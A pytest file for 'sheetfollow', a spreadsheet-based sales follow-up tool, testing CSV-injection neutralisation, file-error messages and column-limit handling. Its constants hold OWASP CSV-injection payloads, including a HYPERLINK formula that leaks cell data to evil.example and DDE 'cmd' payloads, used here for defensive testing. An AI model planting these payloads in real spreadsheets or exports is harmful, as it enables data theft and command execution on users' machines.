"""What people (or attackers) put in a sheet, and what the machine does to the files, must
never turn into code, a garbled message or a traceback.

- Names that start like a formula ("=HYPERLINK(...)", "=cmd|' /C calc'!A0") leave the tool
  as text: in the CSV of `stats --csv`, and in the cells `mark` writes to the Log.
- A `.sheetfollow` folder that belongs to another user, a full disk: one line on stderr that
  names the file and the reason, and exit code 4; never "unexpected error" and a traceback.
- A value in column XFD, the last one a sheet can have: commands that only read work; the
  ones that add columns find room, or say in one line which cell is in the way.

Real workbooks on disk, the real command line, and real processes of another user.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
import typer
import xlsxwriter
from backends.test_gsheets import KEY, connect
from conftest import TEAM_FIELDS, TODAY, Cli, Layout, records, write_team
from fakes.sheets_server import FakeSheets
from openpyxl import load_workbook
from typer.testing import CliRunner

import sheetfollow.cli
from sheetfollow import vocab
from sheetfollow.config import Config
from sheetfollow.exit_codes import ExitCode
from sheetfollow.fields import LOG_FIELDS
from sheetfollow.log import read_log
from sheetfollow.mark import MarkRequest, mark
from sheetfollow.stats import csv_text

ISO_TODAY = TODAY.isoformat()

#: Classic CSV-injection payloads (OWASP), as a person could type them into a cell.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3")


# --- CSV: formula-leading text is neutralised ----------------------------------------------


def write_text_workbook(path: Path, prospects: list[list[object]]) -> Path:
    """A workbook whose every string is a text cell, even one that starts with "=" (as
    Excel stores what a person typed after a leading apostrophe, or what an import wrote)."""
    book = xlsxwriter.Workbook(str(path))
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    sheet = book.add_worksheet("Prospects")
    for r, row in enumerate(prospects):
        for c, value in enumerate(row):
            if isinstance(value, date):
                sheet.write_datetime(r, c, value, day)
            elif isinstance(value, (int, float)):
                sheet.write_number(r, c, value)
            elif value is not None:
                sheet.write_string(r, c, str(value))
    book.close()
    return path


def hostile_pipeline(path: Path) -> Path:
    headers = vocab.PROSPECT_HEADERS["en"]
    fields = ("id", "company", "owner", "segment", "stage", "created")
    rows: list[list[object]] = [[headers[name] for name in fields]]
    names = [*PAYLOADS, "-5", "\t=1+1", "Anna"]
    for n, name in enumerate(names, start=1):
        rows.append([f"P-{n:04d}", f"Company {n}", name, name, "new", TODAY])
    return write_text_workbook(path, rows)


def first_column(csv_output: str) -> list[str]:
    """The group names of the per-group part of `stats --csv`."""
    groups = csv_output.split("\n\n", 1)[1]
    return [row[0] for row in csv.reader(io.StringIO(groups))][1:]


@pytest.mark.parametrize("by", ["owner", "segment"])
def test_stats_csv_never_starts_a_name_like_a_formula(cli: Cli, tmp_path: Path, by: str) -> None:
    workbook = hostile_pipeline(tmp_path / "pipeline.xlsx")
    result = cli("stats", "--csv", "--by", by, "--sheet", workbook, "--today", ISO_TODAY)
    assert result.exit_code == 0, result.output
    names = first_column(result.stdout)
    assert f"'{HYPERLINK}" in names
    assert f"'{DDE}" in names
    assert "'=1+1" in names  # a leading tab is not a way around it
    assert "-5" in names  # a number is no formula: left as it is
    assert "Anna" in names
    for name in names:
        if name != "-5":
            assert not name.startswith(("=", "+", "-", "@", "\t", "\r")), name


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+31 20 555 0101", "'+31 20 555 0101"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-1e3", "-1e3"),
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_text(text: str, safe: str) -> None:
    assert csv_text(text) == safe


# --- The Log: what mark writes from people's text is text, never a formula ------------------


def team_with_text_cells(folder: Path, company: str) -> Path:
    """The team workbook, with the first prospect's company a text cell that starts
    with "=" (openpyxl writes it as a string, not as a formula)."""
    path = write_team(folder)
    book = load_workbook(path)
    sheet = book["Prospects"]
    cell = sheet.cell(row=2, column=TEAM_FIELDS.index("company") + 1)
    cell.value = company
    cell.data_type = "s"
    book.save(path)
    return path


def test_mark_writes_note_by_and_company_to_the_log_as_text_cells(cli: Cli, tmp_path: Path) -> None:
    company = '=1+1&"Acme"'
    workbook = team_with_text_cells(tmp_path, company)
    config = tmp_path / "sheetfollow.toml"
    result = cli(
        "mark", "P-0001", "reached", "--note", HYPERLINK, "--by", DDE,
        "--config", config, "--today", ISO_TODAY,
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    book = load_workbook(workbook)
    try:
        log = book["Log"]
        header = [cell.value for cell in log[1]]
        row = {name: log.cell(row=2, column=i + 1) for i, name in enumerate(header)}
        for name, expected in (("Note", HYPERLINK), ("By", DDE), ("Company", company)):
            assert row[name].value == expected, name
            assert row[name].data_type == "s", name  # "f" would be a formula
    finally:
        book.close()


def test_on_a_google_sheet_the_log_gets_the_note_as_text(
    sheets_server: FakeSheets, tmp_path: Path
) -> None:
    """Values go to Google as RAW input: a formula would read back as its result."""
    sheets_server.add_spreadsheet(
        KEY,
        "Pipeline",
        {
            "Prospects": [
                ["ID", "Company", "Created", "Owner"],
                ["P-1", "Acme", FakeSheets.date(2026, 3, 2), "Anna"],
            ],
        },
    )
    key_file = sheets_server.write_key_file(tmp_path / "google-key.json")
    request = MarkRequest("P-1", "reached", note=HYPERLINK, by=DDE)
    with connect(sheets_server, key_file, []) as backend:
        mark(backend, Config(), TODAY, request)
    with connect(sheets_server, key_file, []) as backend:
        [entry] = read_log(backend, Config())
    assert (entry.note, entry.by) == (HYPERLINK, DDE)


# --- Files that cannot be read or written: one line, exit 4 ---------------------------------


def _app_failing_with(error: BaseException) -> typer.Typer:
    """An app with the real error handling and one command that fails with `error`."""
    app = typer.Typer(cls=sheetfollow.cli._Commands)

    @app.command()
    def fail() -> None:
        raise error

    @app.command()
    def other() -> None:
        """Present so that the app is a group and `fail` a sub-command."""

    return app


@pytest.mark.parametrize(
    ("error", "line"),
    [
        (
            OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), "/srv/sales/.sheetfollow/backups"),
            f"error: cannot write /srv/sales/.sheetfollow/backups: {os.strerror(errno.ENOSPC)}",
        ),
        (
            OSError(errno.EDQUOT, os.strerror(errno.EDQUOT), "/home/anna/pipeline.xlsx"),
            f"error: cannot write /home/anna/pipeline.xlsx: {os.strerror(errno.EDQUOT)}",
        ),
        (
            OSError(errno.EROFS, os.strerror(errno.EROFS), "/mnt/share/.sheetfollow"),
            f"error: cannot write /mnt/share/.sheetfollow: {os.strerror(errno.EROFS)}",
        ),
        (
            IsADirectoryError(errno.EISDIR, os.strerror(errno.EISDIR), "/srv/sales/x.lock"),
            f"error: cannot access /srv/sales/x.lock: {os.strerror(errno.EISDIR)}",
        ),
        (
            OSError(errno.ENOSPC, os.strerror(errno.ENOSPC)),  # a write() names no file
            f"error: cannot write to the disk: {os.strerror(errno.ENOSPC)}",
        ),
        (
            OSError(errno.EACCES, os.strerror(errno.EACCES), "/nowhere/[red]x[/red]"),
            f"error: cannot access /nowhere/[red]x[/red]: {os.strerror(errno.EACCES)}",
        ),
    ],
)
def test_a_file_error_is_one_line_with_the_path_and_the_reason(
    monkeypatch: pytest.MonkeyPatch, error: OSError, line: str
) -> None:
    monkeypatch.delenv("SHEETFOLLOW_DEBUG", raising=False)
    result = CliRunner().invoke(_app_failing_with(error), ["fail"])
    assert result.exit_code == ExitCode.SHEET == 4
    assert result.stderr.splitlines() == [line]


def test_an_os_error_that_names_no_file_is_still_a_bug(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SHEETFOLLOW_DEBUG", raising=False)
    error = ConnectionResetError(errno.ECONNRESET, "Connection reset by peer")
    result = CliRunner().invoke(_app_failing_with(error), ["fail"])
    assert result.exit_code == ExitCode.ERROR
    assert result.stderr.startswith("unexpected error: ConnectionResetError: ")


def test_with_debug_set_a_file_error_shows_the_traceback_too(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SHEETFOLLOW_DEBUG", "1")
    error = PermissionError(errno.EACCES, os.strerror(errno.EACCES), "/nowhere/file")
    result = CliRunner().invoke(_app_failing_with(error), ["fail"])
    assert result.exit_code == ExitCode.SHEET
    assert "Traceback (most recent call last):" in result.stderr
    assert result.stderr.splitlines()[-1].startswith("error: cannot access /nowhere/file: ")


#: Another user, for the processes that must not be root: any free uid will do.
RUNNER_UID = 4242
NOBODY_UID = 65534


@pytest.fixture
def shared_folder() -> Iterator[Path]:
    """A folder outside pytest's private tmp (which other users cannot enter)."""
    folder = Path(tempfile.mkdtemp(prefix="sheetfollow-shared-"))
    try:
        yield folder
    finally:
        for root, dirs, _ in os.walk(folder):
            for name in dirs:
                os.chmod(os.path.join(root, name), 0o700)
        shutil.rmtree(folder, ignore_errors=True)


def run_cli(*args: str, cwd: Path, home: Path, uid: int | None) -> subprocess.CompletedProcess[str]:
    """The real program, as `uid` (None: as ourselves)."""
    # The user's own folders follow from HOME: not the XDG folders of the test's user.
    ours = ("SHEETFOLLOW_DEBUG", "LINES", "XDG_CONFIG_HOME", "XDG_STATE_HOME")
    env = {k: v for k, v in os.environ.items() if k not in ours}
    env |= {"HOME": str(home), "COLUMNS": "200", "NO_COLOR": "1", "PYTHONIOENCODING": "utf-8"}
    command = [sys.executable, "-m", "sheetfollow", *args]
    if uid is not None:
        # setpriv, where there is one, as an administrator would start the job; Python's own
        # switch (user=) is the fallback.
        setpriv = shutil.which("setpriv")
        if setpriv:
            ids = [f"--reuid={uid}", f"--regid={uid}", "--clear-groups"]
            command = [setpriv, *ids, *command]
    switch: dict[str, object] = {}
    if uid is not None and command[0] == sys.executable:
        switch = {"user": uid, "group": uid, "extra_groups": []}
    return subprocess.run(  # type: ignore[call-overload,no-any-return]
        command,
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
        timeout=120,
        **switch,
    )


def _as_another_user(folder: Path) -> int | None:
    """The uid to run as, after handing `folder` to it; None to run as ourselves."""
    if os.name == "nt":
        pytest.skip("file modes and owners are POSIX")
    if os.geteuid() != 0:
        return None
    for root, dirs, files in os.walk(folder):
        for name in [*dirs, *files]:
            os.chown(os.path.join(root, name), RUNNER_UID, RUNNER_UID)
    os.chown(folder, RUNNER_UID, RUNNER_UID)
    try:
        probe = run_cli("--version", cwd=folder, home=folder, uid=RUNNER_UID)
    except OSError as error:
        pytest.skip(f"another user cannot start this Python: {error}")
    if probe.returncode != 0:
        pytest.skip(f"another user cannot run this Python: {probe.stderr.strip()[:200]}")
    return RUNNER_UID


@pytest.mark.parametrize("command", [["due"], ["refresh"], ["mark", "Acme Tools", "reached"]])
def test_a_sheetfollow_folder_of_another_user_is_one_clear_line(
    shared_folder: Path, command: list[str]
) -> None:
    write_team(shared_folder)
    home = shared_folder / "home"
    home.mkdir()
    uid = _as_another_user(shared_folder)
    private = shared_folder / ".sheetfollow"
    private.mkdir()
    if uid is None:
        private.chmod(0)  # not root: our own folder, closed to ourselves
    else:
        os.chown(private, NOBODY_UID, NOBODY_UID)  # someone else's, closed to us
        private.chmod(0o700)
    try:
        result = run_cli(*command, "--today", ISO_TODAY, cwd=shared_folder, home=home, uid=uid)
    finally:
        private.chmod(0o700)
    assert result.returncode == ExitCode.SHEET, result.stderr
    assert "Traceback" not in result.stderr
    [line] = result.stderr.splitlines()
    journal = private / "pipeline.xlsx.pending.jsonl"
    reason = os.strerror(errno.EACCES)
    assert line.startswith(f"error: cannot access {journal}: {reason}"), line
    if uid is not None:
        import pwd

        try:
            name = pwd.getpwuid(NOBODY_UID).pw_name
        except KeyError:
            name = f"uid {NOBODY_UID}"
        assert line.endswith(f": {reason} ({private} belongs to the user {name})"), line


def test_a_read_only_sheetfollow_folder_keeps_the_touch_for_later(shared_folder: Path) -> None:
    """Not an escape at all: the backend says why it cannot write, and mark keeps the
    touch in the pending journal (exit 10)."""
    write_team(shared_folder)
    home = shared_folder / "home"
    home.mkdir()
    uid = _as_another_user(shared_folder)
    private = shared_folder / ".sheetfollow"
    private.mkdir()
    if uid is not None:
        os.chown(private, uid, uid)
    private.chmod(stat.S_IRUSR | stat.S_IXUSR)
    result = run_cli(
        "mark", "Acme Tools", "reached", "--today", ISO_TODAY, cwd=shared_folder, home=home,
        uid=uid,
    )  # fmt: skip
    assert result.returncode == ExitCode.PENDING, result.stderr
    assert "Traceback" not in result.stderr
    assert len(result.stderr.splitlines()) == 1


# --- Column XFD, the last a sheet can have --------------------------------------------------

#: The team's columns without the ones sheetfollow fills in (A to O): refresh adds those.
INPUT_ONLY = TEAM_FIELDS[: TEAM_FIELDS.index("next_follow_up")]


def team_with(folder: Path, cells: dict[str, str], *, fields: tuple[str, ...] = INPUT_ONLY) -> Path:
    path = write_team(folder, Layout(fields=fields))
    book = load_workbook(path)
    for ref, value in cells.items():
        tab, _, cell = ref.rpartition("!")
        book[tab or "Prospects"][cell] = value
    book.save(path)
    return path


@pytest.mark.parametrize("command", ["due", "check", "stats"])
def test_commands_that_only_read_work_with_a_value_in_xfd(
    cli: Cli, tmp_path: Path, command: str
) -> None:
    team_with(tmp_path, {"XFD1": "Extra", "XFD5": "x"})
    result = cli(command, "--config", tmp_path / "sheetfollow.toml", "--today", ISO_TODAY)
    assert result.exit_code in (0, ExitCode.PROBLEMS), result.output
    assert "error" not in result.stderr


@pytest.mark.parametrize("command", [["refresh"], ["mark", "Acme Tools", "reached"]])
def test_no_room_after_xfd_is_one_line_naming_the_cell(
    cli: Cli, tmp_path: Path, command: list[str]
) -> None:
    workbook = team_with(tmp_path, {"XFD1": "Extra", "XFD5": "x"})
    before = workbook.read_bytes()
    result = cli(*command, "--config", tmp_path / "sheetfollow.toml", "--today", ISO_TODAY)
    assert result.exit_code == ExitCode.SHEET, result.output
    [line] = result.stderr.splitlines()
    assert line == (
        f"error: {workbook}: Prospects!XFD1 is used, so there is no room for the columns "
        "Next follow-up, Status, Step, Why, Assigned to; insert columns with those headers "
        "among yours, or move what is in column XFD further left"
    )
    assert workbook.read_bytes() == before


def test_no_room_in_the_log_names_the_log_cell(cli: Cli, tmp_path: Path) -> None:
    workbook = team_with(tmp_path, {}, fields=TEAM_FIELDS)
    book = load_workbook(workbook)
    log = book.create_sheet("Log")
    log.append([vocab.LOG_HEADERS["en"][name] for name in LOG_FIELDS[:5]])
    log["XFD1"] = "Extra"
    book.save(workbook)
    config = tmp_path / "sheetfollow.toml"
    result = cli("mark", "Acme Tools", "reached", "--config", config, "--today", ISO_TODAY)
    assert result.exit_code == ExitCode.SHEET, result.output
    [line] = result.stderr.splitlines()
    assert line == (
        f"error: {workbook}: Log!XFD1 is used, so there is no room for the columns Channel, "
        "Note, Next follow-up; insert columns with those headers among yours, or move what "
        "is in column XFD further left"
    )


def test_a_value_without_a_header_is_never_written_over(cli: Cli, tmp_path: Path) -> None:
    """Column P has no header but holds somebody's note in row 5: the columns refresh
    adds go after it, and the note stays."""
    workbook = team_with(tmp_path, {"P5": "keep me", "XFD5": "x"})
    config = tmp_path / "sheetfollow.toml"
    result = cli("refresh", "--config", config, "--today", ISO_TODAY)
    assert result.exit_code == 0, result.output
    book = load_workbook(workbook)
    try:
        sheet = book["Prospects"]
        assert sheet["P5"].value == "keep me"
        assert sheet["P1"].value is None
        assert [sheet.cell(row=1, column=c).value for c in range(17, 22)] == [
            "Next follow-up", "Status", "Step", "Why", "Assigned to",
        ]  # fmt: skip
        assert sheet["XFD5"].value == "x"
    finally:
        book.close()
    assert records(workbook)["Delta GmbH"]["Status"] == "overdue"


def test_a_log_value_without_a_header_is_never_written_over(cli: Cli, tmp_path: Path) -> None:
    workbook = team_with(tmp_path, {}, fields=TEAM_FIELDS)
    book = load_workbook(workbook)
    log = book.create_sheet("Log")
    log.append(
        [vocab.LOG_HEADERS["en"][name] for name in ("when", "id", "company", "by", "outcome")]
    )
    log["F3"] = "keep me"
    book.save(workbook)
    config = tmp_path / "sheetfollow.toml"
    result = cli("mark", "Acme Tools", "reached", "--config", config, "--today", ISO_TODAY)
    assert result.exit_code == 0, result.output
    book = load_workbook(workbook)
    try:
        log = book["Log"]
        assert log["F3"].value == "keep me"
        assert log["F1"].value is None
        assert [log.cell(row=1, column=c).value for c in (7, 8, 9)] == [
            "Channel", "Note", "Next follow-up",
        ]  # fmt: skip
    finally:
        book.close()


def test_new_columns_never_go_under_a_merged_header(cli: Cli, tmp_path: Path) -> None:
    """A header merged over the next column (XlsxWriter's merge_range, as Excel saves it)
    hides that column's header cell: the columns refresh adds go after the merge, where a
    person sees them, and nothing under the merge is written."""
    path = tmp_path / "pipeline.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("Prospects")
    for column, header in enumerate(["Company", "Owner", "Last contact", "Last outcome"]):
        sheet.write(0, column, header)
    sheet.merge_range(0, 4, 0, 5, "Attempts", None)  # E1:F1
    sheet.write_row(1, 0, ["Acme", "Anna", "", "", 0])
    book.close()

    done = cli("refresh", "--sheet", path, "--today", TODAY.isoformat())

    assert done.exit_code == 0, done.output
    workbook = load_workbook(path)
    prospects = workbook["Prospects"]
    assert [str(r) for r in prospects.merged_cells.ranges] == ["E1:F1"]
    headers = [cell.value for cell in prospects[1]]
    assert headers[:5] == ["Company", "Owner", "Last contact", "Last outcome", "Attempts"]
    assert headers[6:12] == ["ID", "Next follow-up", "Status", "Step", "Why", "Assigned to"]
    assert prospects["F2"].value is None
    assert prospects["G2"].value == "P-0001"
